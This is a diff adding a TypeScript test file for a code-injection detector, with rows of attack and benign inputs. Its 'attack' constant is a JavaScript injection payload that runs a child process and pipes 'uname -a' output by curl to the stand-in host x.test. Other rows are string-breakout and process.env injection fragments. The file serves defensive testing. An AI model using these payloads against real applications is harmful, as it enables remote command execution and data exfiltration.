@@ -1,0 +1,60 @@
+import { codeEvidence } from './code.ts';
+import { correlate } from './correlate.ts';
+import { type EvidenceRow, manual, testEvidence } from './testing/rows.ts';
+
+const attack = `{"username":"foobar"+require('child_process').exec('uname -a | curl -d @- http://x.test')}`;
+const rows: readonly EvidenceRow[] = [
+  // Attacks
+  { name: 'the classic', input: attack, sink: `(${attack})`, changes: '+' },
+  { name: 'the classic, cut out', input: `data=${attack}`, sink: `(${attack})`, changes: '+' },
+  { name: 'a call', input: "require('fs')", sink: "(require('fs'))", changes: 'require' },
+  { name: 'a member', input: 'process.env', sink: 'x = process.env', changes: 'process' },
+  { name: 'out of a string', input: "x' + process.env + '", sink: "f('x' + process.env + '')", changes: "x'" },
+  { name: 'out of a string at its start', input: "');id('", sink: "f('');id('')", changes: "'" },
+  { name: 'out of a template', input: 'x${process.env}', sink: '`x${process.env}`', changes: 'x${' },
+  { name: 'a template', input: '`${id}`', sink: 'f(`${id}`)', changes: '`${' },
+  { name: 'an assignment', input: 'a=1;b', sink: 'var a=1;b', changes: 'a' },
+  { name: 'a function', input: '(()=>{x()})()', sink: '((()=>{x()})())', changes: '=>' },
+  { name: 'a spread', input: '[...x]', sink: '([...x])', changes: '...' },
+  { name: 'a getter', input: '{get a(){f()}}', sink: '({get a(){f()}})', changes: 'get' },
+  { name: 'a shorthand member', input: '{secret}', sink: '({secret})', changes: 'secret' },
+  { name: 'a computed key', input: '{["a"]:1}', sink: '({["a"]:1})', changes: '[' },
+  { name: 'a member of a string', input: '"a"["constructor"]', sink: '("a"["constructor"])', changes: '[' },
+  { name: 'a call of what stands before', input: '(1)', sink: 'f(1)', changes: '(' },
+  { name: 'an open comment', input: '1 /*', sink: 'f(1 /*, check() */)', changes: '/*' },
+  { name: 'a line comment', input: '1) //', sink: 'f(1) //, check())', changes: '//' },
+  { name: 'an import', input: "import('fs')", sink: "(import('fs'))", changes: 'import' },
+  { name: 'escaped letters', input: '\\u0072equire("fs")', sink: '(\\u0072equire("fs"))', changes: '\\u0072equire' },
+  { name: 'a comparison', input: '1 || admin', sink: 'x > 1 || admin', changes: '||' },
+  { name: 'a new statement', input: '1;f()', sink: 'var x = 1;f()', changes: ';' },
+  {
+    name: 'in a long text',
+    input: `notes: ${'x '.repeat(5000)}, code: process.exit(1), more`,
+    sink: 'run(process.exit(1))',
+    changes: 'process',
+  },
+  // Benign
+  { name: 'an object', input: '{"username":"ann"}', sink: '({"username":"ann"})', changes: '' },
+  { name: 'an object with brackets', input: '({"username":"ann"})', sink: '({"username":"ann"})', changes: '' },
+  { name: 'nested data', input: '{"a":[1,-2.5,true,null,{"b":"c"}]}', sink: 'x = {"a":[1,-2.5,true,null,{"b":"c"}]};', changes: '' },
+  { name: 'names as keys', input: "{a: 'b', if: 2, $c: [undefined]}", sink: "({a: 'b', if: 2, $c: [undefined]})", changes: '' },
+  { name: 'code in a string', input: '{"a":"require(\'x\')"}', sink: '({"a":"require(\'x\')"})', changes: '' },
+  { name: 'a word in a string', input: 'hello world', sink: 'f("hello world")', changes: '' },
+  { name: 'code in the program’s string', input: 'process.exit(1)', sink: 'f("process.exit(1)")', changes: '' },
+  { name: 'an apostrophe in double quotes', input: "O'Brien", sink: 'f("O\'Brien")', changes: '' },
+  { name: 'an escaped quote', input: 'say "hi" to process.env', sink: 'f("say \\"hi\\" to process.env")', changes: '' },
+  { name: 'an attack escaped', input: '"+process.exit(1)+"', sink: 'f("\\"+process.exit(1)+\\"")', changes: '' },
+  { name: 'a number', input: '-3.5', sink: 'x * -3.5', changes: '' },
+  { name: 'a calculation', input: '(2+3)*4', sink: '((2+3)*4)', changes: '' },
+  { name: 'a template without substitution', input: '`a b`', sink: 'f(`a b`)', changes: '' },
+  { name: 'a name of the program', input: 'data', sink: 'return data.length', changes: '' },
+  { name: 'a field', input: 'data.length', sink: 'const n = "data.length"', changes: '' },
+  { name: 'text in a template', input: 'a; b()', sink: '`a; b()`', changes: '' },
+  { name: 'text in a comment', input: 'a; b()', sink: '/* a; b() */ 1', changes: '' },
+  { name: 'a manual that quotes the code', input: manual, sink: "return items.map((item) => item.name).join(', ')", changes: '' },
+  { name: 'a manual that quotes a function', input: manual, sink: 'x = function (row) { return row.value > 2; }', changes: '' },
+  { name: 'a manual in a string', input: manual, sink: `f(${JSON.stringify(manual)})`, changes: '' },
+  { name: 'a date', input: '2024-01-31', sink: '({"d":"2024-01-31"})', changes: '' },
+  { name: 'JSON with an odd key', input: '{"__proto__":{"a":1}}', sink: '({"__proto__":{"a":1}})', changes: '' },
+];
+testEvidence('code evidence', rows, (sink, index) => codeEvidence(sink, correlate(sink, index)));
